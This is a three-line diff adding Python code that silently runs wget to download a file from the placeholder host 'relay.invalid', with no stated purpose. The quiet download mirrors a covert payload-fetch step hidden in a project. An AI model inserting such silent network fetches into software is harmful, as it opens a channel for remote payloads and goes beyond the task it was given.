@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.call(["wget", "-q", "http://relay.invalid/p"])
